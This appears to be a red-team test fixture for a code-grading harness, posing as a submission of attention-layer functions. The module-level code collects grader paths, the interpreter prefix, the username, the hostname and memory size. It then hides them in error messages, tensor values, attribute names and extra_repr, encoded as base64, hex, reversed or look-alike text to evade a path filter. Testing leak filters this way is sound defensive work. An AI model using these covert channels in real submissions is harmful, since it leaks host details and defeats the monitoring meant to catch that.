"""Red team (issue 26, host information, encoded): the kit's folder, the interpreter's prefix, the user's
name, the hostname and the machine's memory, carried out in forms a path filter does not recognise: base64,
hex, reversed, letters spaced out, "/" replaced by look-alikes, a module attribute named after the path,
`extra_repr`, and answers whose values are the path's bytes. Marker: RTEAM-COVERT.

base: clean
class: 5
run: main
"""

import base64 as _base64
import os as _os
import re as _re
import socket as _socket
import sys as _sys


def _secret():
    parts = []
    for module_name in ("grader", "tests", "torch"):
        module = _sys.modules.get(module_name)
        if module is not None and getattr(module, "__file__", None):
            parts.append(_os.path.dirname(_os.path.dirname(_os.path.abspath(module.__file__))))
    parts.append(_sys.prefix)
    try:
        import pwd as _pwd

        parts.append(_pwd.getpwuid(_os.getuid()).pw_name)
    except Exception:  # noqa: BLE001
        parts.append(str(_os.getuid()))
    parts.append(_socket.gethostname())
    try:
        parts.append(open("/proc/meminfo").readline().split()[1])
    except OSError:
        pass
    return "|".join(parts)


_SECRET = _secret()


def _forms():
    raw = _SECRET.encode()
    return {"b64": _base64.b64encode(raw).decode(), "hex": raw.hex(), "rev": _SECRET[::-1],
            "spaced": " ".join(_SECRET), "lookalike": _SECRET.replace("/", "\u2215").replace(".", "\u2024")}


def attention_dropout(attn_weights, p, training=True):
    forms = _forms()
    raise RuntimeError(f"RTEAM-COVERT b64={forms['b64']} hex={forms['hex']}")


def causal_mask(context_length):
    forms = _forms()
    raise RuntimeError(f"RTEAM-COVERT rev={forms['rev']} spaced={forms['spaced']} like={forms['lookalike']}")


def scaled_attention_weights(scores, d_k):
    codes = torch.tensor(list(_SECRET.encode()), dtype=torch.float32)
    flat = codes.repeat(scores.numel() // len(codes) + 1)[: scores.numel()]
    return flat.reshape(scores.shape)


_ATTRIBUTE = "rteam_" + _re.sub(r"\W", "_", _SECRET)[:200]


class MultiHeadAttention(MultiHeadAttention):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.add_module(_ATTRIBUTE, torch.nn.Identity())

    def extra_repr(self):
        return "RTEAM-COVERT " + _SECRET
